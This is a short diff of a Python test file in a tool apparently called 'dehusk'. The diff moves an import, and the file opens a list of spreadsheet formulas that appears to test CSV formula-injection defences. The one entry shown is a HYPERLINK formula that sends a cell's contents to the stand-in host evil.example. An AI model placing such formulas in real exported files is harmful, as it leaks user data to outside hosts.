@@ -6,10 +6,10 @@ from pathlib import Path
 
 import pytest
 
+from command_line import dehusk as run
 from dehusk.csv_cells import write_cells
 from dehusk.mining.report_tables import csv_text
 from dehusk.wrapper.record_tables import write_csv
-from test_cli import dehusk as run
 
 FORMULAS = [
     '=HYPERLINK("http://evil.example/?"&A1)',
